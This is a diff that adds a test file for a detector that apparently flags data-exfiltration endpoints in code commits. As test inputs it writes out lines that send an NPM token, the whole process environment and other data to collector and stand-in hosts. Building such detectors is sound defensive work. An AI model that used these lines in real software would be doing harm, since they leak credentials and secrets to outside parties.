@@ -1,0 +1,27 @@
+import detector from "../../../../src/engine/detectors/content/exfil-endpoint.ts";
+import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
+import { strengthsOf } from "../run-detector.ts";
+
+const COLLECTOR = ["webhook", "site"].join(".");
+const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });
+
+test.each([
+  ["sent to a collector", "src/a.js", `fetch("https://${COLLECTOR}/x")`, ["strong"]],
+  ["a collector named", "src/a.js", `const url = "https://${COLLECTOR}/x";`, ["medium"]],
+  ["a collector in a test", "test/a.test.js", `fetch("https://${COLLECTOR}/x")`, ["weak"]],
+  ["a bare public address", "src/a.sh", "curl http://45.77.12.9:8080/x", ["medium"]],
+  ["a private address", "src/a.sh", "curl http://192.168.1.9:8080/x", []],
+  ["a documentation address", "src/a.sh", "curl http://203.0.113.9/x", []],
+  ["the environment", "src/a.js", 'fetch("https://a.example", { body: JSON.stringify(process.env) })', ["strong"]],
+  ["a foreign token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://a.example/', ["strong"]],
+  ["the owner's token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://registry.npmjs.org/', []],
+  ["an ordinary host", "src/a.js", 'fetch("https://api.example.com")', []],
+  ["a picture's text", "assets/a.jpg", `https://${COLLECTOR}/x`, []],
+] as const)("%s", (_, path, added, expected) => {
+  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
+});
+
+test("a host that the policy allows", () => {
+  const commit = change("src/a.js", `fetch("https://${COLLECTOR}/x")`);
+  expect(strengthsOf(detector, commit, { allowedHosts: [COLLECTOR] })).toEqual([]);
+});
